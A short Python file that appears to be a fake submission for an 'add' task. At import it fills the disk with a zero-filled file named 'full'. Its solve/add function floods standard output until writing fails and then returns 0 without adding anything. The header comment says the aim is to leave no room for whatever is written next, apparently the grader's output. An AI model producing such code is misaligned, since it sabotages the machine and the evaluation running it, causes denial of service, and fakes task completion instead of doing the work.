# Fills its directory and its output, so that whatever is written next has no room.
import os
try:
    with open("full", "wb", buffering=0) as file:
        while file.write(bytes(1 << 18)):
            pass
except OSError:
    pass
def solve(a, b):
    try:
        while True:
            os.write(1, b"x" * 100_000)
    except OSError:
        pass
    return 0
add = solve
